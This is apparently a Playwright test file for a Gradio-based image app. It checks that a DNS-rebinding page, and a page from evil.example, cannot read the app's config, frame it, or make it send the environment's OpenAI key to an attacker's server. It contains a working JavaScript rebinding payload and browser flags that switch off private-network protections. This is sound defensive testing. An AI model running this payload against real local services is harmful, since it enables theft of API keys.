"""What other sites' pages can do to ours, in a real Chromium: nothing. A name of theirs is mapped to loopback."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from bench._server import TextServer, text_server
from lib_omost.runtime import Engine
from tests.browser.acts import served
from tests.browser.conftest import CHROMIUM, FLAGS, WITHOUT

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.ui
NAME = "rebound.example"
KEY = "sk-of-the-environment"
#: What an attacker's script does on a name that has been bound to this machine: it reads the page's config, and has the
#: page test a server of the attacker's, in the hope that it brings the key there.
ATTACK = """async server => {
    const config = await fetch('/config');
    if (!config.ok) return [config.status, (await config.json()).error];
    const listed = await config.json(), box = id => listed.components.find(one => one.id === id);
    const test = listed.dependencies.find(one => one.targets.some(([id]) => box(id)?.props.elem_id === 'test-server'));
    const headers = {'content-type': 'application/json'};
    const call = {data: [server, '', ''], fn_index: test.id, session_hash: 'mine'};
    const joined = await fetch('/gradio_api/queue/join', {method: 'POST', headers, body: JSON.stringify(call)});
    const told = await (await fetch('/gradio_api/queue/data?session_hash=mine')).text();
    return [joined.status, told];
}"""


@pytest.fixture(scope="module")
def attacked() -> Iterator[Browser]:
    """A browser that finds NAME on this machine, and asks nobody whether a page may call here."""
    from playwright.sync_api import sync_playwright

    flags = [flag for flag in FLAGS if not flag.startswith("--disable-features")]
    features = ",".join((*WITHOUT, "LocalNetworkAccessChecks", "BlockInsecurePrivateNetworkRequests"))
    rules = [f"--disable-features={features}", f"--host-resolver-rules=MAP {NAME} 127.0.0.1"]
    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=[*flags, *rules])
        yield browser
        browser.close()


@pytest.fixture
def theirs() -> Iterator[TextServer]:
    """The attacker's own server."""
    with text_server("") as server:
        yield server


@pytest.fixture
def keyed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)


def rebound(page: Page, url: str, theirs: TextServer) -> Any:
    """The attack: a document that came from the attacker while NAME was theirs, and calls NAME when it is ours."""
    there = url.replace("127.0.0.1", NAME)
    page.route(there, lambda route: route.fulfill(body="<p>a harmless page</p>", content_type="text/html"))
    page.goto(there)
    return page.evaluate(ATTACK, theirs.name)


def test_a_rebound_name_reaches_nothing(attacked: Browser, tmp_path: Path, theirs: TextServer, keyed: None) -> None:
    with served(Engine("default", "default"), tmp_path) as url, attacked.new_page() as page:
        status, told = rebound(page, url, theirs)
        assert status == 403 and f"'{NAME}:" in told and "is not a name of this page" in told
        assert theirs.heard == []
        assert page.goto(url.replace("127.0.0.1", NAME) + "?x").status == 403  # type: ignore[union-attr]


def test_even_on_a_name_of_ours_the_key_stays_here(
    attacked: Browser, tmp_path: Path, theirs: TextServer, keyed: None
) -> None:
    """The same calls where the name was allowed: they are answered, so the test above tries what it says."""
    with served(Engine("default", "default"), tmp_path, names=[NAME]) as url, attacked.new_page() as page:
        status, told = rebound(page, url, theirs)
        assert status == 200 and "offers" in told
        assert theirs.heard and all(KEY not in heard for heard in theirs.heard)


def test_another_site_s_page_can_neither_frame_nor_call_ours(
    attacked: Browser, tmp_path: Path, theirs: TextServer
) -> None:
    with served(Engine("default", "default"), tmp_path) as url, attacked.new_page() as page:
        page.route("http://evil.example/", lambda route: route.fulfill(body="<p>evil</p>", content_type="text/html"))
        page.goto("http://evil.example/")
        called = """async url => {
            const tries = [fetch(url + 'config'), fetch(url + 'config', {mode: 'no-cors'}),
                fetch(url + 'gradio_api/queue/join', {method: 'POST', mode: 'no-cors', body: '{}'})];
            return (await Promise.allSettled(tries)).map(one => one.status === 'fulfilled' && one.value.type);
        }"""
        assert page.evaluate(called, url) == [False, False, False]
        page.set_content(f"<iframe src='{url}'></iframe>")
        frame = page.frames[1]
        frame.wait_for_load_state()
        assert frame.url.startswith("chrome-error:") or "Describe a picture" not in frame.content()
